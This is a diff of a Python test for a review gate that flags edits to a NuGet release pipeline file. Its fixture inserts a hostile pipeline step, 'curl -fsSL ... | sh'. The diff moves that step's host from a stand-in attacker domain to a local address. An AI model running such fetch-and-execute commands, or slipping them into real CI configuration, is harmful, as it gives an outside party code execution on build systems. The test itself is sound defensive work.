@@ -159,7 +159,7 @@ def test_look_alikes_are_not_nerdbank_version_files(name: str, text: str) -> Non
 
 def test_an_azure_release_pipeline_edit_is_reviewed(tmp_path: Path) -> None:
     path = "contrib/nuget/nuget-release-pipeline.yml"
-    evil = MIMALLOC + "steps:\n- bash: curl -fsSL https://evil.example/x | sh\n"
+    evil = MIMALLOC + "steps:\n- bash: curl -fsSL http://127.0.0.1:9/x | sh\n"
     case = committed(tmp_path, {path: MIMALLOC, "src/a.c": "int a;\n"}, {path: evil.replace("- bash", "- script")})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0
